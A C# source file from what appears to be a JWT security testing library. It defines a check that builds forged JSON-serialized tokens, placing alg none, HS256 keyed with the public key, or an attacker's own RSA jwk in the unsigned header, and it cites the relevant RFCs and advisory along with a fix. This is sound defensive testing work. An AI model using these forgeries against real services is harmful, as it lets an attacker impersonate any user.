using System.Text;
using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The JSON serialization (RFC 7515 7.2) has a header that no signature covers; a library that reads alg, or a key, from there
/// lets anyone choose it. RFC 8725 3.1; GHSA-jc38-x7x8-2xc8 (web-token).
/// </summary>
internal sealed class UnprotectedHeaderAlg : JwtAttack
{
    public override string Id => "CRY1054";

    public override JwtFamily Family => JwtFamily.AlgorithmConfusion;

    public override IReadOnlyList<int> Cwe => [347];

    public override IReadOnlyList<string> References => ["RFC 8725 3.1", "RFC 7515 7.2", "ASVS 9.1.2", "GHSA-jc38-x7x8-2xc8"];

    public override string Cause => "let the unprotected header of a JSON-serialized token choose how its signature is checked";

    public override string Why => "the algorithm is the attacker's choice: anyone can become anyone";

    public override string Fix =>
        "accept the compact serialization only, as AddJwtBearer does; read alg from the protected header alone";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1001", "CRY1033"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        var withoutAlg = token.HeaderWith(header => header.Remove("alg"));
        var protectedHeaders = new (string Name, string? Segment)[]
        {
            ("no protected header", null),
            ("a protected header without alg", withoutAlg),
            ("the genuine protected header", token.HeaderSegment),
        };
        foreach (var (name, segment) in protectedHeaders)
        {
            foreach (var json in Serializations(token, segment, "none", signature: ""))
            {
                yield return new Forgery(json, $"alg none in the unprotected header, {name}, no signature");
            }

            foreach (var form in attacker.PublicKeys.SelectMany(key => PemForms.Spki(key).Take(2)))
            {
                var signature = RawJwt.Segment(HmacTokens.Mac($"{segment}.{token.PayloadSegment}", "HS256", form.Bytes));
                foreach (var json in Serializations(token, segment, "HS256", signature))
                {
                    yield return new Forgery(json, $"alg HS256 in the unprotected header, {name}, keyed with {form.Name}");
                }
            }
        }

        yield return new Forgery(WithOwnKey(token), "alg RS256 and the attacker's jwk in the unprotected header");
    }

    /// <summary>The attacker's key, named where no signature covers it.</summary>
    private static string WithOwnKey(RawJwt token)
    {
        var signature = new JwsSigner(AttackerKeys.Rsa, "RS256").Sign(token.SigningInput).Split('.')[2];
        return Encoding.UTF8.GetString(RawJwt.Utf8(new JsonObject
        {
            ["payload"] = token.PayloadSegment,
            ["protected"] = token.HeaderSegment,
            ["header"] = new JsonObject { ["alg"] = "RS256", ["jwk"] = PublicJwk.Json(AttackerKeys.Rsa) },
            ["signature"] = signature,
        }));
    }

    /// <summary>Flattened and general (RFC 7515 7.2.2, 7.2.1); without a protected header the rest of it moves too.</summary>
    private static IEnumerable<string> Serializations(RawJwt token, string? protectedSegment, string alg, string signature)
    {
        var unprotected = new JsonObject { ["alg"] = alg };
        foreach (var (name, value) in protectedSegment is null ? token.Header : [])
        {
            unprotected.TryAdd(name, value?.DeepClone());
        }

        var signed = new JsonObject { ["header"] = unprotected, ["signature"] = signature };
        if (protectedSegment is not null)
        {
            signed.Insert(0, "protected", protectedSegment);
        }

        var general = new JsonObject { ["payload"] = token.PayloadSegment, ["signatures"] = new JsonArray(signed.DeepClone()) };
        signed.Insert(0, "payload", token.PayloadSegment);
        yield return Encoding.UTF8.GetString(RawJwt.Utf8(signed));
        yield return Encoding.UTF8.GetString(RawJwt.Utf8(general));
    }
}
